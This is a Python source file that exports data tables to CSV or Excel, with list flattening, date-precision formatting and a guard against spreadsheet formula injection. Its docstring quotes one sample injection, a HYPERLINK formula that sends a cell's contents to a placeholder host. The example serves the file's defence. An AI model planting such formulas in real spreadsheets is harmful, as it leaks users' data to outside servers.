"""Export an output folder for spreadsheets: CSV files or one Excel workbook.

    >>> from pipeline.export import export
    >>> export("outputs", "exports", "csv")     # exports/documents.csv, exports/events.csv, ...
    >>> export("outputs", "exports", "xlsx")    # exports/sepakat.xlsx, one sheet per table

One file (CSV) or sheet (xlsx) per table found in the folder; an absent table (`agreements`,
`runs` of older runs) is left out. Cells are flattened for tools that know no lists:

- list columns (`province_codes`, `parties`, `scope`, `signatories`, `event_ids` …) are joined
  with LIST_SEPARATOR, " | " (space, vertical bar, space): `ID-ST | ID-KS`. Split on it to get
  the list back; no extracted value contains it.
- dates are ISO 8601 text: `2024-08-14`; run times `2024-08-14T10:00:00+00:00`. A signing date
  is written at its precision (`date_precision`): `2017` for a year, `2022-03` for a month,
  `2022-03-05` for a day, so no spreadsheet reads "Maret 2022" as the 1st of March.
- CSV is UTF-8 (no byte-order mark), comma-separated, CRLF line ends, quoted where needed.
- no cell runs as a formula: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
  return (a title from the web could be `=HYPERLINK("http://x/?"&A1,"…")`) gets a leading
  apostrophe in CSV, which spreadsheets read as "this is text" and do not show; in xlsx it is
  stored unchanged as a text cell (openpyxl would store it as a formula).
- xlsx cells hold at most 32,767 characters (Excel's limit): a longer `documents.text` is cut
  there and ends with "…"; characters XML forbids (control codes) are dropped.

xlsx needs openpyxl: `pip install 'sepakat[export]'`.
"""
from __future__ import annotations

from pathlib import Path

import pandas as pd

from .records import ISO_LENGTH
from .tables import TABLES, load

LIST_SEPARATOR = " | "
FORMATS = ("csv", "xlsx")
WORKBOOK = "sepakat.xlsx"
XLSX_CELL_MAX = 32_767  # Excel's limit on the characters of one cell
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet read a cell as a formula
PRECISION_OF = {"event_date": "date_precision"}  # a date column and the column saying how much of it is known


def export(out: str | Path, dest_dir: str | Path, fmt: str = "csv") -> list[Path]:
    """Write the tables of the output folder `out` into `dest_dir` as `fmt` ("csv" or "xlsx");
    returns the files written."""
    if fmt not in FORMATS:
        raise ValueError(f"unknown export format {fmt!r}: use one of {', '.join(FORMATS)}")
    tables = load(out)
    frames = {t: flatten(getattr(tables, t)) for t in TABLES if t in tables.present}
    dest = Path(dest_dir)
    dest.mkdir(parents=True, exist_ok=True)
    if fmt == "csv":
        written = []
        for name, df in frames.items():
            path = dest / f"{name}.csv"
            # CRLF line ends (RFC 4180) also make the writer quote a cell holding a bare CR
            df.map(as_csv_text).to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")
            written.append(path)
        return written
    return [_write_xlsx(frames, dest / WORKBOOK)]


def flatten(df: pd.DataFrame) -> pd.DataFrame:
    """Lists joined with LIST_SEPARATOR, dates and times as ISO text, categoricals as text."""
    flat = pd.DataFrame(index=df.index)
    for col in df.columns:
        s = df[col]
        if pd.api.types.is_datetime64_any_dtype(s):
            if getattr(s.dt, "tz", None) is None and (s.dropna() == s.dropna().dt.normalize()).all():
                flat[col] = s.dt.strftime("%Y-%m-%d")
            else:
                flat[col] = s.map(lambda v: v.isoformat() if pd.notna(v) else None)
            flat[col] = flat[col].astype(object).where(s.notna(), None)  # pandas 3's str dtype would keep NaN
        elif s.dtype == object and s.map(lambda v: isinstance(v, list)).any():
            flat[col] = s.map(lambda v: LIST_SEPARATOR.join(map(str, v)) if isinstance(v, list) else v)
        elif isinstance(s.dtype, pd.CategoricalDtype):
            flat[col] = s.astype(object).where(s.notna(), None)
        else:
            flat[col] = s
    for col, precision in PRECISION_OF.items():
        if col in df.columns and precision in df.columns:
            cut = [None if d is None else d[:ISO_LENGTH.get(p, ISO_LENGTH["day"])] if isinstance(p, str) else d
                   for d, p in zip(flat[col], df[precision].astype(object))]
            flat[col] = pd.Series(cut, index=flat.index, dtype=object)  # object: pandas 3's str dtype keeps no None
    return flat


def as_csv_text(v):
    """A CSV cell no spreadsheet runs: text that would start a formula gets a leading apostrophe."""
    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_START) else v


def _write_xlsx(frames: dict[str, pd.DataFrame], path: Path) -> Path:
    try:
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    except ImportError as exc:  # the reason, and the fix, not a bare traceback
        raise ImportError("xlsx export needs openpyxl: pip install 'sepakat[export]'") from exc

    def cell(v):
        if not isinstance(v, str):
            return v
        v = ILLEGAL_CHARACTERS_RE.sub("", v)
        return v if len(v) <= XLSX_CELL_MAX else v[:XLSX_CELL_MAX - 1] + "…"

    with pd.ExcelWriter(path, engine="openpyxl") as xl:
        for name, df in frames.items():
            df.map(cell).to_excel(xl, sheet_name=name, index=False)
            sheet = xl.sheets[name]
            sheet.freeze_panes = "A2"
            for row in sheet.iter_rows():  # every value is data: what openpyxl took for a formula is text
                for c in row:
                    if c.data_type == "f":
                        c.data_type = "s"
    return path
